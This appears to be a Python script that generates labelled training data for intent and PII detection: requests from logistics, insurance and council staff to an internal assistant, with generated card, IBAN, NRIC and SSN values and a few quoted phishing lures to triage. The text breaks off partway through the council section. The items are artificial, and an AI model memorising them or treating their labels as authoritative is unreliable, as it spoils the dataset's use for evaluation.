# ruff: noqa: E501
"""train_diverse24: hand-written requests from five employers, labelled as an acceptance tester.

Employees of a logistics group, an insurance broker, a city council, a biotech lab and a
managed-security provider typing into an internal assistant. RECORD dialect of corpus.py:
``@ intent d cx s [tool ...] [:: clause]`` lines, then the request text. Inline PII is written
``[[TYPE|value]]`` (P person, E email, T phone, IP address); checksummed values come from
``Values(2424)`` as ``{NAME}`` placeholders; look-alikes are unmarked and checked to fail.

Run: ``python tests/data/intent/train_diverse24_source.py`` (writes train_diverse24.jsonl).
"""

from __future__ import annotations

import re

from corpus import (
    HERE,
    Placeholders,
    Values,
    check_lookalikes,
    mark,
    pv,
    record_rows,
    write_and_check,
)

V = Values(2424)

VALUES = {
    "CARD1": V.card("4", 16, " "),
    "CARD2": V.card("52", 16, "-"),
    "CARD3": V.card("37", 15, " "),
    "CARD4": V.card("6011", 16, ""),
    "CARD5": V.card("2221", 16, " "),
    "CARD6": V.card("4", 16, ""),
    "IBAN_DE": V.iban("DE", True),
    "IBAN_GB": V.iban("GB", False),
    "IBAN_FR": V.iban("FR", True),
    "IBAN_NL": V.iban("NL", False),
    "IBAN_ES": V.iban("ES", True),
    "IBAN_IT": V.iban("IT", False),
    "IBAN_BE": V.iban("BE", True),
    "IBAN_CH": V.iban("CH", False),
    "IBAN_AT": V.iban("AT", True),
    "NRIC1": V.nric("S"),
    "NRIC2": V.nric("T"),
    "NRIC3": V.nric("F"),
    "NRIC4": V.nric("G"),
    "NRIC5": V.nric("M"),
    "SSN1": V.ssn("-"),
    "SSN2": V.ssn("-"),
    "SSN3": V.ssn(" "),
    "SSN4": V.ssn("-"),
    "SSN5": V.ssn("-"),
}
KINDS = {
    "CARD": "CREDIT_CARD",
    "IBAN": "IBAN",
    "NRIC": "SG_NRIC",
    "SSN": "US_SSN",
}
MARKED = {
    k: mark(KINDS[k.rstrip("0123456789").split("_")[0]], v) for k, v in VALUES.items()
}

LOOKALIKES = {
    "BADCARD1": V.bad_card("4", " "),
    "BADCARD2": V.bad_card("5", "-", shift=5),
    "BADCARD3": V.bad16(""),
    "BADCARD4": V.bad16(" "),
    "BADCARD5": V.bad_card("4", "", shift=2),
    "BADIBAN1": V.bad_iban("DE", True),
    "BADIBAN2": V.bad_iban("GB", False),
    "BADIBAN3": V.bad_iban("FR", True, shift=7),
    "BADIBAN4": V.bad_iban("NL", False, shift=3),
    "BADIBAN5": V.bad_iban("ES", True, shift=23),
    "BADNRIC1": pv.bad_nric(V.rng),
    "BADNRIC2": pv.bad_nric(V.rng),
}
check_lookalikes(LOOKALIKES)

INLINE = re.compile(r"\[\[([A-Z_]+)\|([^\]]+)\]\]")
SHORT = {"P": "PERSON", "E": "EMAIL", "T": "PHONE", "IP": "IP_ADDRESS"}

PH = Placeholders(materials={}, values={**MARKED, **LOOKALIKES})


def expand(raw: str) -> str:
    text, _ = PH(raw)
    return INLINE.sub(
        lambda m: mark(SHORT.get(m.group(1), m.group(1)), m.group(2)), text
    )


LOGISTICS = """
@ qa g l p
what's the max axle load for a 40t artic in the UK?

@ translate g l i
Translate to German: "Delivery slot moved to Thursday 07:00, gate 4."

@ math f l i calc
fuel surcharge at 18.5% on a £2,340 haul — what's the total?

@ chat g l p
morning! quiet night on the night shift for once

@ draft g l i
write a quick note telling drivers the Felixstowe yard closes early Friday

@ !hn
@ extract g l i
pull the order numbers out of this: ORD-7734412, ORD-7734419 and ORD-7735001 all delayed at hub 3

@ !hn
@ qa g l i retr
status of PO 4500218873? it was due 14/03/2025

@ classify g l i
Is this a damage claim or a late delivery complaint? "Pallet arrived with forks through two cartons, customer refusing the lot."

@ sentiment g l i
how annoyed does this customer sound: "third time this month, honestly done with you lot"

@ code g l i
regex to match our consignment ids like LGX-2024-0001234

@ creative g l p
give me a catchy name for our new same-day courier service in Leeds

@ summarize g m i
Can you boil this down to three bullets for the ops call?

Weekly hub report, Daventry. Inbound volume 18,420 parcels (+6% wk/wk). Sort rate averaged 3,900/hr against a plan of 4,200; the shortfall traces to conveyor belt C2 being down Tuesday 06:00-11:30. Agency headcount 42 vs 50 planned. Two near-misses in the yard, both reversing manoeuvres without a banksman. Outbound trunking left on time 94% of nights; the Glasgow trunk missed twice because of late linehaul from Southampton.

@ reasoning g m i
Should we move the Glasgow trunk departure from 22:00 to 22:45? Upside: we'd catch the late Southampton linehaul. Downside: the driver hits his 9-hour limit near Carlisle if there's any traffic on the M6. Talk me through it.

@ math f m i calc
We pay 1.42 EUR per km on the Rotterdam–Lyon lane, 1,015 km one way, 3 return trips a week, 48 weeks. Annual spend? And what if the rate goes up 4.5%?

@ draft l m c
Hi, background first: our carrier agreement with Brennan Haulage expires 30 June and they've asked for a 9% rate increase, which we can't absorb. I need a firm but polite letter from legal to their commercial director [[P|Declan Brennan]] saying we'll only renew at a 3% increase and with a 97% on-time KPI, otherwise we'll go to tender.

@ extract g m c
Get me the consignee, address and phone from this delivery note into a table:

CONSIGNEE: [[P|Harriet Okonjo]]
Unit 7, Riverside Trade Park, Derby DE24 8XT
Tel: [[T|01332 448 907]]
Goods: 12 x pallets ceramic tiles, 6,840 kg
Special: tail-lift required, no access before 08:30

@ qa l m p
Under CMR, what is the carrier's liability limit per kg for lost goods, and is it in SDR?

@ translate g m i
Traduis en français pour le dépôt de Lille, s'il te plaît: "All drivers must complete the new tachograph training by the end of the month. Slots are available on Tuesdays and Thursdays in the canteen. Bring your driver card."

@ code g m i code
This Python snippet is supposed to sum parcel weights per route but returns 0 every time, can you fix it and run it on the sample?

def totals(rows):
    out = {}
    for r in rows:
        out[r["route"]] = out.get(r["route"], 0)
    return out

rows = [{"route": "A1", "kg": 12.5}, {"route": "A1", "kg": 3.0}, {"route": "B7", "kg": 8.2}]

@ sentiment g m c
Our Trustpilot page this week — overall tone positive or negative, and what's the main gripe?

"Driver [[P|Kev]] was brilliant, called ahead and carried it upstairs." 5 stars
"Parcel sat in Bristol depot for 6 days, no updates." 1 star
"Tracking link broken again." 2 stars
"Fast and friendly, will use again." 5 stars
"Left my parcel in the bin. In the rain." 1 star

@ classify s m i
Triage these into phishing / spam / legit for the IT desk:
1. "Your DHL package is on hold, pay £1.99 customs fee here: bit.ly/3xYz"
2. "Reminder: timesheets due Friday 17:00"
3. "Exclusive offer on forklift tyres, 30% off"
4. "Microsoft 365: your password expires today, verify now"

@ math f l i calc
what's 2,840 pallets times £11.75 storage per week over 6 weeks


@ draft m m c
One of our warehouse pickers, [[P|Tomasz Wrobel]], twisted his knee stepping off a reach truck yesterday. Occupational health says 2 weeks off then light duties. Draft the return-to-work plan for his line manager, no more than half a page.

@ summarize m h r
Summarise the occupational health report for the HR file, plain English, keep the restrictions:

OH REPORT — Employee: [[P|Graham Stokes]], DOB 11/02/1979, Role: HGV driver (Class 1)
Referral reason: recurrent lower back pain, 3 episodes in 12 months.
Findings: L4/L5 tenderness, straight leg raise negative, no neurological deficit. BMI 33. Reports 11-hour shifts with minimal breaks; cab seat suspension reported faulty on vehicle KX19 HBL.
Opinion: fit for driving with adjustments. Recommend: max 9 hours driving/day for 6 weeks, seat repaired or vehicle swapped, physio referral (6 sessions), review in 8 weeks. Not fit for manual unloading >20 kg during this period.

@ extract f m r
Need the payment details from this supplier email split out into fields (name, IBAN, amount, due date):

From: accounts@ — sorry, forwarded copy
"Please remit EUR 14,260.00 for invoice 2025-0419 to our new account, beneficiary Transports Lemaire SARL, IBAN {IBAN_FR}, by 30 April. Contact [[P|Sylvie Lemaire]] on [[T|+33 3 20 55 81 17]] with any questions."

@ reasoning s m r
Same email as before — supplier says they've changed bank account to {IBAN_FR}. Is this a likely invoice-redirection fraud? What checks should AP do before paying?

@ !hn
@ math f m i calc
Reconcile these: invoice INV-2025-00417 for £8,412.50, credit note CN-2025-0088 for £1,120.00, and a part payment of £3,000 on 02/04/2025. What's still outstanding?

@ !hn
@ qa g l i retr
where is shipment 1Z8842097713350921 right now

@ !hn
@ classify g m i
Which of these SKUs are hazmat? SKU 4410-2201-0087-3315 (lithium cells), SKU 4410-2201-0091-0042 (cardboard mailers), SKU 5520-1180-0003-7781 (aerosol lubricant), SKU 5520-1180-0012-0008 (cable ties)

@ !hn
@ summarize g m i
Summarise the WMS release notes for the floor supervisors, one paragraph:

WMS 4.2.0.17 (build 20250311.4) — fixes: wave picking no longer double-allocates bin A-14-03; label printer timeout raised to 30 s; RF guns on firmware 7.1.3 now reconnect after sleep. Known issue: cycle count export truncates at 65,535 lines, fix in 4.2.1.

@ !hn
@ code g m i
Write a SQL query that finds all orders between 2025-01-01 and 2025-03-31 where the delivered date is more than 2 days after the promised date, grouped by depot. Tables: orders(order_no, depot_id, promised_dt, delivered_dt).

@ !hn
@ extract f l i
list the invoice numbers and amounts: INV-88120 €1.240,00; INV-88121 €310,50; INV-88133 €12.075,00

@ !hn
@ reasoning g m i
Part number 7700-A13-2291 keeps failing on the sorters, part 7700-A13-2291-R is the revised one. Supplier says revision R costs 22% more but lasts 3x longer. Worth switching?

@ math f m i calc :: Work out the cost per pallet for March
@ draft g l i :: then draft a two-line note to the depot managers with the number
Work out the cost per pallet for March (total warehouse cost £412,800, 36,150 pallets moved) and then draft a two-line note to the depot managers with the number.

@ summarize g m i :: Summarise this thread for me
@ extract g m i :: list who agreed to do what
@ draft g m c :: draft my reply to Priya confirming the Monday slot
Summarise this thread for me, list who agreed to do what, and draft my reply to [[P|Priya]] confirming the Monday slot.

[[P|Priya Nair]] 09:12: Can we get the Bradford cross-dock ready for the Aldwick contract by the 14th?
[[P|Mark Ellison]] 09:20: Racking install is booked, I'll chase the fitters for Monday.
[[P|Jo Haddad]] 09:31: I'll sort the agency staff, need 12 extra for nights.
[[P|Priya Nair]] 09:40: Great. IT — scanners?
[[P|Ravi Menon]] 10:02: 20 RF guns arriving Thursday, I'll configure them Friday.
[[P|Priya Nair]] 10:05: Let's walk the site Monday 8am if that works for everyone.

@ translate g m i :: translate the driver instructions below into Polish
@ translate g m i :: and Romanian
Please translate the driver instructions below into Polish and Romanian, keep it simple, lots of our drivers read it on their phones:

1. Check in at the gatehouse and show your booking reference.
2. Wait in bay 9 until called — do not reverse onto the dock without a banksman.
3. Hand the CMR to the goods-in clerk and wait for the signed copy.

@ qa l m p web :: What are the current EU rules on driver rest periods in the cab
@ reasoning l h i :: does our Sunday rota for the Calais run comply
What are the current EU rules on driver rest periods in the cab, and does our Sunday rota for the Calais run comply? Rota: driver starts Sat 05:00, 4.5h driving, 45min break, 4.5h driving, ferry crossing 1.5h counted as rest, 2h driving, ends Sat 19:30, restarts Sun 05:30.

@ code g h i :: Review this function for bugs
@ code g m i :: write unit tests for it with pytest
Review this function for bugs and write unit tests for it with pytest.

def eta_minutes(distance_km, avg_speed_kmh, breaks):
    drive = distance_km / avg_speed_kmh * 60
    return drive + sum(breaks) if breaks else drive
    # breaks is a list of minutes; drivers need 45 min after 4.5h driving
    if drive > 270:
        drive += 45

@ chat g l p
thanks, that rota breakdown was really helpful

@ chat g l p
can you help me with something or are you just for IT stuff?

@ creative g m p
Write a short, funny poem for our longest-serving driver's retirement card — 31 years driving for us, famous for his bacon sandwiches and never once being late.

@ creative g l p
slogan ideas for the side of our new electric vans?

@ sentiment g m c
We ran an anonymous pulse survey in the Coventry warehouse. What's the overall mood in these comments?

- "Shift patterns changed with 2 days' notice again."
- "Team leaders are good, it's the targets that are mad."
- "New canteen is nice."
- "Nobody listens when we report broken pallet trucks."
- "Pay rise was decent this year tbh."

@ classify g l i
customs or carrier issue? "Held at Dover, missing EORI on the commercial invoice"

@ qa f l p
what does DDP mean vs DAP on an incoterm?

@ extract g l c
grab the email addresses from this: [[E|l.fairbrother@kestrel-foods.co.uk]], [[E|goodsin.leeds@kestrel-foods.co.uk]] cc [[E|t.ahmadi@northlinkfreight.com]]

@ draft f m i
Need a polite payment reminder to a customer who is 45 days overdue on £23,480. First reminder, keep the relationship warm, mention we can set up a payment plan.

@ translate g l i
¿Cómo se dice "albarán de entrega firmado" en inglés?

@ draft g m i
Entwirf bitte eine kurze E-Mail an das Lager in Duisburg: die Inventur wird vom 28. auf den 30. Juni verschoben, alle Schichten bleiben wie geplant.

@ summarize g m i
Fasse bitte diesen Vorfallbericht in zwei Sätzen zusammen: Am 12.05. um 14:20 ist im Lager Duisburg ein Regal in Gang 7 nach einem Anprall durch einen Gabelstapler eingeknickt. Niemand wurde verletzt. Die Ware (ca. 40 Paletten Getränke) wurde umgelagert, das Regal gesperrt und der Hersteller zur Prüfung bestellt.

@ reasoning g h i
Background: we run 3 depots (Leeds, Doncaster, Hull). Leeds is at 96% capacity, Doncaster 71%, Hull 58%. Hull is 62 miles from our biggest customer, Leeds is 14. The board wants to close one site to save £1.1m a year. Leeds lease ends 2027, Hull owns its building, Doncaster lease ends 2030. Which one would you close and why? Lay out the tradeoffs, I'll present this myself.

@ math f h i calc
Our fleet: 84 tractors averaging 7.9 mpg, 112,000 miles each per year, diesel at £1.52 per litre. If we swap 20 of them for HVO-ready units that do 8.3 mpg but HVO costs 14% more per litre, does our annual fuel bill go up or down and by how much? 1 gallon = 4.546 litres.

@ !hn
@ extract g m i
Pull the tracking refs and dates into a CSV (ref,date,status):

14/05/2025 08:14 TRK-55810377 collected
14/05/2025 19:40 TRK-55810377 at hub Daventry
15/05/2025 06:02 TRK-55810401 out for delivery
15/05/2025 11:57 TRK-55810401 delivered, POD signed
16/05/2025 07:30 TRK-55810422 exception: address not found

@ !hn
@ qa f l i
payment for invoice INV-2024-31177 of £46,310.00 — was it in the 28/02 run?

@ !hn
@ math f m i calc
Card terminal batch report shows terminal ID 3301 8842 6610 9274 with 312 transactions totalling £18,245.60. Average transaction value?

@ !hn
@ classify f l i
is {BADCARD1} a valid card number or just a reference? it's written on a returns label

@ !hn
@ reasoning f m i
Finance flagged this IBAN on a new supplier form: {BADIBAN1}. The supplier says it's correct. What would you tell them and what should they re-check?

@ !hn
@ code g l i
bash one-liner to bump version 3.14.2.9 to 3.14.2.10 in all pom.xml files

@ code s m r code
Write a Python function that masks card numbers in our shipping exports (keep last 4) and run it on these three lines to show it works:

order 88213, paid by {CARD1}, ship to Leeds
order 88214, paid by {CARD2}, ship to York
order 88215, invoice account, ship to Hull

@ extract g m r
Our Singapore hub onboarding form came through as a scan. Pull name, NRIC, mobile and start date into JSON:

Name: [[P|Lim Wei Ling]]   NRIC: {NRIC1}
Mobile: [[T|+65 9123 4876]]
Position: Warehouse Supervisor, Tuas hub
Start date: 2 June 2025

@ draft g m r
US payroll needs a letter confirming employment for our Memphis driver [[P|Marcus Bell]], SSN {SSN1}, employed since March 2019 as a Class A driver, $68,400 base. Keep it formal, one page.

@ qa g l i retr
who's the on-call transport planner tonight for Midlands?

@ summarize l h c
Summarise the key obligations and the termination clause in this extract of our warehousing agreement, for a non-lawyer:

12.1 The Provider shall store the Goods in accordance with Good Industry Practice and the SLA in Schedule 3.
12.2 The Provider's liability for loss of or damage to Goods shall not exceed £10 per kg gross weight, save for losses caused by the Provider's gross negligence or wilful misconduct.
14.1 Either party may terminate this Agreement on not less than six (6) months' written notice, such notice not to expire before the third anniversary of the Commencement Date.
14.2 The Customer may terminate immediately if the Provider fails to meet the Pick Accuracy KPI (99.5%) in three consecutive months.
14.3 On termination the Provider shall cooperate with any exit plan and shall not exercise any lien over the Goods save for undisputed sums.

@ reasoning l h c :: Is the £10/kg cap a problem for us
@ draft l m c :: suggest a redline wording for 12.2
Same agreement as above. Our goods are high-value electronics (avg £180/kg). Is the £10/kg cap a problem for us, and can you suggest a redline wording for 12.2 that I can send to the provider?

@ classify l m i
Tag each clause as liability, termination, payment or confidentiality:
(a) Invoices are payable within 30 days of receipt.
(b) Neither party shall disclose the other's pricing to any third party.
(c) Either party may terminate on 90 days' notice.
(d) Liability is capped at the fees paid in the previous 12 months.

@ qa s l i
is it safe to plug the handheld scanners into the office PCs to charge?

@ sentiment g l c
tone check before I send: "As discussed, you've missed the slot AGAIN and we'll be charging the full re-delivery fee."

@ draft g m i :: Rewrite my message so it's firm but not rude
Rewrite my message so it's firm but not rude — it's to a carrier who's missed 3 collection slots: "As discussed, you've missed the slot AGAIN and we'll be charging the full re-delivery fee. Sort it out."

@ extract s m c
From this firewall alert, give me source IP, destination IP, port and time:

2025-05-19T02:41:07Z DENY TCP src=[[IP|185.220.101.47]]:51544 dst=[[IP|10.40.2.15]]:3389 rule=RDP-EXT-BLOCK host=dvn-wms-01

@ reasoning s h c
The WMS server in Daventry ([[IP|10.40.2.15]]) got 2,300 RDP attempts from Tor exit nodes overnight, all blocked at the firewall. IT says nothing to worry about. Is that right, or should we be doing something more? We're a logistics company, not a bank, but we did get hit by ransomware in 2022.

@ math g l p calc
how many 1.2 x 1.0 m pallets fit on a 13.6 m trailer floor, single stacked?

@ creative g m p
We're running a safety week in all depots. Write a short story (200 words) from the point of view of a forklift that's tired of being driven too fast.

@ qa g l p
what's a 'cross-dock' in plain terms? new starter here

@ chat g l p
haha fair enough, you're more patient than my manager

@ math f m c calc :: Calculate the total
@ summarize f m c :: summarise what's driving the increase
Calculate the total of these quarterly customs duty payments and summarise what's driving the increase: Q1 £84,200 (mainly apparel from Bangladesh), Q2 £91,650 (apparel plus new electronics lines), Q3 £128,900 (electronics volume tripled, some anti-dumping duty on e-bikes), Q4 £140,300 (peak season, e-bikes again).

@ translate f m c :: translate this customs query from the Spanish broker
@ draft f m c :: draft a reply in English saying we'll send the certificate of origin by Friday
Can you translate this customs query from the Spanish broker and draft a reply in English saying we'll send the certificate of origin by Friday?

"Buenos días, para despachar el envío de Valencia necesitamos el certificado de origen y la factura comercial firmada. Sin estos documentos la mercancía quedará retenida y se aplicarán gastos de almacenaje a partir del lunes. Saludos, [[P|Lucía Ferrer]]"

@ summarize g l i :: Summarise the incident below in one line
@ classify g l i :: say whether it's RIDDOR reportable
Summarise the incident below in one line and say whether it's RIDDOR reportable: agency worker cut finger on banding strap, first aid given, returned to work same shift.

@ classify m m c
Is this RIDDOR reportable? Driver [[P|Amir Qureshi]] fell from the trailer bed while securing a load, fractured his wrist, off work 10 days.

@ extract f m r
Customer called to pay over the phone and the agent typed it into the ticket. I need the order number and amount out, and flag that the card is in there: "Cust paid £642.18 for order 55102873, card {CARD3} exp 09/27, name [[P|Helen Marsh]]"

@ draft s m i
Write a short policy paragraph for the contact centre: agents must never type card numbers into tickets or emails, only use the PCI payment line.

@ code g m i
Excel formula that returns "LATE" if delivered date (col E) is after promised date (col D), "ON TIME" otherwise, and blank if E is empty.

@ qa g m i retr
What's our process if a driver gets a roadside check from DVSA and the tacho data is missing for one day? I think it's in the transport handbook somewhere.

@ draft g h c
Long one, sorry. We're consolidating the Leeds and Doncaster night shifts from October. 38 people affected; nobody loses their job but 14 will need to travel an extra 30 minutes and we're offering a £1.10/hr travel allowance for 12 months. Unions have been briefed. I need the all-staff announcement — honest, no corporate waffle, explain why (Leeds is over capacity, Doncaster under), what happens next (1:1s from 8 Sept), and where to ask questions. Under 350 words.
"""

INSURANCE = """
@ qa f l p
what's the difference between excess and deductible?

@ qa l l p
is professional indemnity cover claims-made or occurrence based?

@ math f l i calc
premium £3,420 plus 12% IPT, what's the total?

@ translate f l i
translate "sum insured" and "loss adjuster" into French

@ classify f l i
commercial or personal lines: "landlord insurance for 3 buy-to-lets"?

@ sentiment f l c
is this renewal email from the client angry or just blunt?

"Quote's up 40%. Explain or we walk."

@ chat g l p
friday at last, long week of renewals

@ draft f l i
two-line reminder that renewals are due by the 1st

@ creative f l p
tagline for our cyber insurance flyer aimed at small dentists

@ code f l i
Excel: round premium in B2 up to nearest £5

@ qa f l i retr
which insurers on our panel write marine cargo?

@ extract f l c
get the policy number from: "ref our policy HX/PI/2291847, claim notified 3 June"

@ math f l i calc
commission at 17.5% on a £48,200 premium?

@ qa l l p web
latest FCA consumer duty deadline for closed products?

@ reasoning f l i
combined or separate policies for a client's two restaurants?

@ summarize l l i
tl;dr of the FCA's fair value guidance in one sentence?

@ qa m l p
does private medical insurance usually cover pre-existing conditions?

@ qa s l p
what does a cyber policy's 'social engineering' extension cover?

@ chat g l p
cheers, you're a star

@ draft f m c
Write a cover note to [[P|Mr Abiodun Adeyemi]] enclosing his renewed commercial combined policy. Premium down 3% this year thanks to the new sprinkler system; mention we'll review his business interruption sum insured in six months because his turnover has grown.

@ math f m i calc
Client wants to pay annually instead of monthly. Monthly is £412.60 x 12, annual is £4,650. How much do they save, in £ and as a percentage?

@ extract f h r
Pull the claimant details and bank info out of this claim form so I can set up the settlement payment:

CLAIM FORM — Escape of water, 14 Birch Close, Woking
Policyholder: [[P|Katarzyna Nowak]]
Contact: [[T|07700 900 418]] / [[E|kasia.nowak@fastmail.co.uk]]
Date of loss: 22/02/2025
Settlement to: IBAN {IBAN_GB}
Agreed amount: £7,845.32 less £250 excess

@ math f l c calc
For the claim above — agreed £7,845.32 less the £250 excess, what do we actually pay out?

@ classify f m c
Sort these new enquiries into motor fleet, property, liability or cyber:
1. "We run 14 vans and want to cover them under one policy."
2. "Our office flooded last year, looking for better buildings cover."
3. "A customer slipped in our shop, do we need public liability?"
4. "Got hit with ransomware, want cover this time."
5. "Need employers' liability for 6 staff."

@ sentiment f m c
Read these NPS comments from our SME clients and tell me the overall sentiment and the top two complaints:

"Account handler [[P|Beth]] is fantastic, always picks up." (10)
"Renewal came through 3 days before expiry, way too late." (4)
"Claims process was painless." (9)
"Premiums up again with no explanation." (3)
"Portal is clunky but people are great." (7)

@ summarize l h c
Summarise the exclusions in this policy wording so I can explain them to the client on the phone:

SECTION 4 — EXCLUSIONS. The Insurer shall not be liable for: (a) loss or damage caused by wear and tear, gradual deterioration, rust, corrosion or mechanical breakdown; (b) loss arising from any cyber act or cyber incident, unless the Cyber Extension is shown as operative in the Schedule; (c) loss or damage to property in any building left unoccupied for more than 45 consecutive days; (d) theft unless involving forcible and violent entry or exit; (e) any consequential loss other than as provided under Section 2 (Business Interruption); (f) pollution or contamination other than caused by a sudden identifiable unintended and unexpected incident.

@ reasoning l h c
Client's warehouse was empty for 52 days during a refit and then got broken into; thieves cut the padlock and took copper cabling. Using the exclusions above, is the claim likely covered? Walk me through (c) and (d).

@ draft l m c
Draft a short, plain-English letter to the client explaining the unoccupancy exclusion and asking whether the building was empty for more than 45 days before the break-in.

@ qa l m p
If a client misrepresents their claims history at renewal, what does the Insurance Act 2015 say insurers can do? Distinguish deliberate from careless.

@ code f m i
Write a Python function that calculates pro-rata return premium when a policy is cancelled mid-term: inputs annual premium, start date, cancellation date, and a short-period scale flag.

@ translate l m c
Translate this clause into German for our Munich client, keep the legal tone: "The Insured shall notify the Insurer as soon as reasonably practicable of any circumstance which may give rise to a claim."

@ translate f m i
Traduce al español por favor, es para un cliente en Madrid: "Your policy renews on 1 July. Please confirm any changes to your business activities, turnover or premises before 15 June so we can obtain accurate quotes."

@ creative g m p
Our team is doing a charity quiz night. Write 5 insurance-themed quiz questions with funny multiple-choice options.

@ !hn
@ extract f m i
List each policy ref and renewal date from this bordereau snippet:

POL-2024-118842 | 01/07/2025 | £2,140.00
POL-2024-118901 | 15/07/2025 | £11,980.50
POL-2024-119033 | 31/07/2025 | £640.00

@ !hn
@ math f m i calc
Bordereau for July: POL-2024-118842 £2,140.00, POL-2024-118901 £11,980.50, POL-2024-119033 £640.00, less commission at 15%. What's net due to the insurer?

@ !hn
@ qa f l i retr
has claim CLM-25-004417 been paid yet? settlement due 03/06/2025

@ !hn
@ reasoning f m i
The client gave us {BADIBAN2} for the refund but the bank rejected it. Is it the check digits? What should we ask them for?

@ !hn
@ classify f l i
the portal flagged {BADCARD2} as a card — is it actually one?

@ !hn
@ summarize g m i
Summarise what changed in the broking platform upgrade:

Acturis-style platform release 11.3.2.4 (build 2025.05.14-02): quote engine now returns panel rates in under 4 s; bulk renewal invites limited to 500 per batch; fixed bug where MTA fees of £25.00 were applied twice on policy 0044-1187-22.

@ !hn
@ math f l i calc
premium £1,284.50 split into 10 instalments with a 6.9% APR charge — rough monthly figure?

@ !hn
@ draft f m i
Write a note to accounts: the remittance for invoice BRK-2025-03318 (£9,402.16) was matched to BRK-2025-03381 by mistake on 12/05/2025, please reverse and re-match.

@ math f m r calc :: Work out the pro-rata refund
@ draft f m r :: write the email telling her it'll go to the card ending
Work out the pro-rata refund for [[P|Mrs Eleanor Pike]] — annual premium £864, cancelled after 127 days, no claims — and write the email telling her it'll go to the card ending in the last four digits of {CARD4}.

@ summarize f h c :: Summarise the loss adjuster's report
@ reasoning f h c :: tell me if the reserve looks right
@ draft f m c :: draft a holding email to the client
Summarise the loss adjuster's report, tell me if the reserve looks right, and draft a holding email to the client.

LOSS ADJUSTER PRELIMINARY REPORT — Insured: Harbour Lane Bakery Ltd. Contact: [[P|Owen Pritchard]], [[T|+44 29 2048 1163]]
Incident: fire originating in proving oven, 04/04/2025, extinguished by fire service within 40 min.
Damage: oven destroyed; smoke damage to ceiling and stock; kitchen closed.
Estimates: building repairs £38,000; contents/stock £12,500; machinery £27,000 (replacement oven). Business interruption: bakery closed est. 6 weeks, gross profit approx £9,000/week.
Reserve set: £85,000.
Notes: maintenance records for the oven not yet produced.

@ extract f m c :: extract the reserve and the BI figures into a table
@ math f m c calc :: compute the total exposure if BI runs 10 weeks instead of 6
Same report — extract the reserve and the BI figures into a table, then compute the total exposure if BI runs 10 weeks instead of 6.

@ classify l m c :: Classify each complaint as FOS-eligible or not
@ draft l m c :: draft the final response letter for the first one
Classify each complaint as FOS-eligible or not, then draft the final response letter for the first one.
1. Sole trader, turnover £80k, unhappy we didn't mention a flood exclusion at sale.
2. PLC with 2,000 staff complaining about a D&O quote.
3. Retired couple, travel claim declined for cancellation due to illness.

@ qa f m p :: What's the typical commission range for commercial property
@ reasoning f m i :: is our 22% on the Wexford account defensible under fair value rules
What's the typical commission range for commercial property, and is our 22% on the Wexford account defensible under fair value rules?

@ sentiment f m c :: What's the tone of this underwriter email
@ draft f m c :: suggest how I should reply
What's the tone of this underwriter email, and suggest how I should reply?

"We've reviewed the submission for the Castlegate portfolio. Frankly the risk info is thin — no sprinkler certs, no EICRs, nothing on the 2023 flood. We won't be quoting on this basis. [[P|Daniel Kerr]], Senior UW"

@ translate f m c :: Translate this German broker email
@ summarize f m c :: then summarise the three questions they're asking
Translate this German broker email and then summarise the three questions they're asking:

"Sehr geehrte Damen und Herren, bezüglich der Flottenversicherung für unseren gemeinsamen Kunden hätten wir drei Fragen: Erstens, gilt die Deckung auch für Fahrzeuge, die kurzfristig in Österreich eingesetzt werden? Zweitens, wie hoch ist der Selbstbehalt bei Glasschäden? Drittens, können Anhänger nachträglich eingeschlossen werden? Mit freundlichen Grüßen, [[P|Jürgen Albrecht]]"

@ draft f m r
US client onboarding: draft the email to [[P|Jennifer Holt]] asking her to re-send the W-9 — the SSN she typed, {SSN2}, doesn't match the one on the signed proposal form. Keep it discreet.

@ extract f m r
Pull the cardholder name, card number and expiry from this call note so I can put it through the payment page, then I'll delete the note: "[[P|Ravi Chaudhry]] paying £1,120 deposit, card {CARD5}, exp 11/26, CVV given verbally"

@ reasoning s m r
An account exec pasted a client's full card number ({CARD5}) into a Teams chat. What's our obligation under PCI DSS and what should we do right now?

@ code f h i
I have a CSV export of policies (policy_id, insurer, inception, expiry, gross_premium, commission_pct). Write pandas code that produces per-insurer totals of premium and commission for policies live on 1 July 2025, and flags any insurer where we exceed 25% of our book.
"""

COUNCIL = """
@ qa l l p
how long do we have to answer an FOI request?

@ qa l l p
does a subject access request have to be in writing?

@ classify l l i
FOI or EIR? "all air quality readings on Mill Road 2024"

@ draft g l i
quick out-of-office for the planning team over Easter

@ translate g l p
"Bin collection moved to Tuesday" in Polish and Urdu please

@ math f l p calc
band D council tax £2,171 with 25% single person discount?

@ chat g l p
hello! first day using this thing, be gentle

@ sentiment g l c
is this resident email sarcastic? "Wonderful, another pothole. Thanks so much."

@ creative g l p
fun name for our library summer reading challenge, theme is space

@ code g l i
SQL to count missed bin reports per ward last month

@ qa m l p
what's the current adult flu jab eligibility age in England?

@ reasoning g l i
pay-and-display or free 2-hour parking on the high street?

@ extract g l i
get the ward names out of: Abbey, Castle, Northgate and St Peter's all affected

@ summarize g l i
one-line summary of the cabinet decision on leisure centre fees please

@ qa l l i retr
what's the delegated officer limit for approving tree works?

@ chat g l p
ok that makes sense, thank you!

@ qa s l i
should I click a link from 'HMRC' in my council inbox?

@ classify g l i
is "fly-tipped fridge on Elm Lane" environmental health or waste?

@ translate l l p
what's "licensing committee" in Welsh?

@ math g l p calc
what's 1,840 households divided across 7 collection rounds?

@ qa f l p web
current interest rate on PWLB 25-year loans?

@ !hn
@ qa g l i retr
status of planning application 25/00417/FUL?

@ !hn
@ qa g l i retr
any update on ticket CRM-0048812 dated 09/05/2025?

@ !hn
@ extract f l i
pull out the PO numbers: PO 4100087721, PO 4100087790, PO 4100088015

@ draft l m c
Draft a response to a resident, [[P|Mr Colin Forsyth]], who has complained that a neighbour's extension was approved without him being consulted. Explain that neighbour notification for householder applications is by site notice and letter to adjoining properties, that his property at 22 Laurel Avenue was not adjoining, and how he can raise a formal complaint if he's still unhappy. Sympathetic but clear.

@ summarize l h i
Summarise this licensing sub-committee minute in 5 bullets for the councillor briefing:

Application for a premises licence variation, The Crown & Anchor, 4 Quay Street. Applicant seeks to extend hours for sale of alcohol from 23:00 to 01:00 Fri–Sat and to add regulated entertainment (live music) indoors until 00:30. Representations: 7 residents objecting on noise and anti-social behaviour grounds; Police no objection subject to conditions (SIA door staff from 22:00, CCTV retained 31 days); Environmental Health requested a noise management plan and sound limiter. Decision: granted in part — alcohol until 00:30 Fri–Sat, live music until 23:30, all Police conditions attached, noise management plan to be submitted within 28 days, windows and doors closed during live music.

@ classify g m i
Sort these street-scene reports by priority (urgent / routine / not ours):
